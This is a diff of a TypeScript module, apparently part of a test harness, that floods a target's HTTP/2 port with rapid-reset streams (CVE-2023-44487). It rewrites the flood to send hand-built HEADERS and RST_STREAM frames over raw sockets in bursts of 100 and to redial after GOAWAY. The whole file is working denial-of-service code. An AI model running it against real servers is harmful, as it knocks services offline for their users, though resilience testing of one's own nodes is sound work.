@@ -1,10 +1,24 @@
 // HTTP/2 rapid reset (CVE-2023-44487) on the guest port: over `connections` connections at
-// once, open a stream and cancel it at once (RST_STREAM CANCEL), as fast as the connection
-// takes them, for `durationMs`; a connection the node ends (GOAWAY, close) is dialled again.
-// Bounded by time; each connection yields to the event loop every burst.
-import http2 from "node:http2";
-import { connectH2, GRPC_HEADERS } from "./h2-connect.js";
+// once, open a stream (HEADERS of a gRPC call) and cancel it at once (RST_STREAM CANCEL), as
+// fast as the socket takes them, for `durationMs`; a connection the node ends (GOAWAY, close)
+// is dialled again after 5 ms. Frames are written by hand (h2-frames.ts). Bounded by time;
+// each connection writes bursts and waits for the socket to drain.
+import { readFileSync } from "node:fs";
+import { connect as tcpConnect, type Socket } from "node:net";
+import { connect as tlsConnect } from "node:tls";
+import {
+  answerControl,
+  emptySettings,
+  errorCodeName,
+  FRAME,
+  FrameReader,
+  grpcHeaderBlock,
+  headersThenReset,
+  PREFACE,
+} from "./h2-frames.js";
+import { GUEST_PATH } from "./h2-connect.js";
 import { type AttackerTls, type AttackOutcome, Tally } from "./outcome.js";
+import { splitTarget } from "./target.js";
 
 export interface RapidResetSpec {
   readonly target: string;
@@ -13,50 +27,70 @@ export interface RapidResetSpec {
   readonly tls?: AttackerTls;
 }
 
-const BURST = 64;
+const BURST_STREAMS = 100;
+/** A client's stream ids are odd and below 2^31: start over on a new connection before that. */
+const LAST_STREAM_ID = 2 ** 31 - 1;
+
+function dial(spec: RapidResetSpec): Socket {
+  const { host, port } = splitTarget(spec.target);
+  if (!spec.tls) return tcpConnect({ host, port });
+  return tlsConnect({
+    host,
+    port,
+    ALPNProtocols: ["h2"],
+    ca: readFileSync(spec.tls.ca),
+    cert: readFileSync(spec.tls.cert),
+    key: readFileSync(spec.tls.key),
+    servername: spec.tls.serverName,
+  });
+}
 
 /** One connection's life: resets until the node ends it or time is up. */
 function oneConnection(spec: RapidResetSpec, until: number, sent: Tally, answers: Tally) {
   return new Promise<void>((resolve) => {
-    const session = connectH2(spec.target, spec.tls);
+    const socket = dial(spec);
+    const block = grpcHeaderBlock(spec.target, GUEST_PATH, spec.tls ? "https" : "http");
     sent.add("connections");
+    let streamId = 1;
     let done = false;
     const finish = (why?: string) => {
       if (done) return;
       done = true;
       clearTimeout(timer);
       if (why) answers.add(why);
-      session.destroy();
+      socket.destroy();
       resolve();
     };
     const timer = setTimeout(() => finish(), Math.max(0, until - performance.now()));
-    session.on("goaway", (code: number) => finish(`goaway:${http2Name(code)}`));
-    session.on("error", (e: NodeJS.ErrnoException) => finish(`error:${e.code ?? e.message}`));
-    session.on("close", () => finish("closed by the node"));
+    const reader = new FrameReader((type, flags, payload) => {
+      if (type === FRAME.GOAWAY) finish(`goaway:${payload.length >= 8 ? errorCodeName(payload.readUInt32BE(4)) : "?"}`);
+      else answerControl(type, flags, payload, (b) => socket.write(b));
+    });
+    socket.on("data", (d: Buffer) => reader.push(d));
+    socket.on("error", (e: NodeJS.ErrnoException) => finish(`error:${e.code ?? e.message}`));
+    socket.on("close", () => finish("closed by the node"));
     const burst = () => {
-      if (done || session.destroyed || session.closed) return;
-      for (let i = 0; i < BURST; i++) {
-        try {
-          const stream = session.request(GRPC_HEADERS, { endStream: false });
-          stream.on("error", () => undefined);
-          stream.close(http2.constants.NGHTTP2_CANCEL);
-          sent.add("streams reset");
-        } catch (e) {
-          finish(`request failed:${(e as NodeJS.ErrnoException).code ?? "?"}`);
+      while (!done && performance.now() < until) {
+        const frames: Buffer[] = [];
+        for (let i = 0; i < BURST_STREAMS && streamId < LAST_STREAM_ID; i++, streamId += 2) {
+          frames.push(headersThenReset(block, streamId));
+        }
+        sent.add("streams reset", frames.length);
+        if (streamId >= LAST_STREAM_ID) {
+          finish("stream ids used up");
+          return;
+        }
+        if (!socket.write(Buffer.concat(frames))) {
+          socket.once("drain", burst);
           return;
         }
       }
-      setImmediate(burst);
     };
-    session.on("connect", burst);
+    socket.once(spec.tls ? "secureConnect" : "connect", () => {
+      socket.write(Buffer.concat([PREFACE, emptySettings()]));
+      burst();
+    });
   });
-}
-
-function http2Name(code: number): string {
-  const entry = Object.entries(http2.constants).find(
-    ([k, v]) => k.startsWith("NGHTTP2_") && v === code && !k.startsWith("NGHTTP2_SESSION"),
-  );
-  return entry ? entry[0].replace(/^NGHTTP2_/, "") : String(code);
 }
 
 export async function rapidReset(spec: RapidResetSpec): Promise<AttackOutcome> {
